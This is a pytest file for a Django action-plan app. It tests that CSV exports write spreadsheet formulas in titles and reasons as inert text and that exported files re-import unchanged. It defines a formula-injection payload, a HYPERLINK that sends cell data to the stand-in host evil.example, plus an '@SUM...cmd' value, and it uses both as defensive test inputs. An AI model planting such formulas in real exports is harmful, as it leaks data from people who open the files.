"""Spreadsheet formulas typed into the plan (titles, members' reasons) are written as text in every CSV."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from actionplan import services
from actionplan.models import Status

from .factories import ActionItemFactory, dated_history

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_the_public_export_writes_a_formula_title_as_text(client, plan, org_a):
    ActionItemFactory(plan=plan, number=1, slug="evil", lead_organization=org_a, title=FORMULA)
    rows = _rows(client.get(reverse("actionplan:export_csv")))
    titles = [row[2] for row in rows[1:]]
    assert titles == ["'" + FORMULA]


def test_the_export_of_a_formula_title_still_imports_unchanged(client, plan, org_a, coordinator, login_as):
    from django.core.files.uploadedfile import SimpleUploadedFile  # noqa: PLC0415 -- used by this test only

    ActionItemFactory(plan=plan, number=1, slug="evil", lead_organization=org_a, title=FORMULA)
    login_as(coordinator)
    exported = client.get(reverse("actionplan:export_csv")).content
    upload = SimpleUploadedFile("plan.csv", exported, content_type="text/csv")
    assert client.post("/en/action-plan/staff/import/", {"file": upload, "reason": ""}).status_code == 302
    from actionplan.models import ActionItem  # noqa: PLC0415 -- used by this test only

    assert str(ActionItem.objects.get(slug="evil").title) == FORMULA


def test_the_progress_report_writes_a_members_formula_reason_as_text(client, item, coordinator):
    dated_history(item, created="2024-01-01", entries=[("2024-02-10", Status.CHALLENGES, 20, "@SUM(1+1)*cmd")])
    report = services.report_generate(plan=item.plan, as_of=dt.date(2024, 2, 29), actor=coordinator)
    rows = _rows(client.get(reverse("actionplan:report_csv", args=[report.plan.slug, report.as_of.isoformat()])))
    change = next(row for row in rows if row[0] == "Change")
    assert change[7] == "'@SUM(1+1)*cmd"
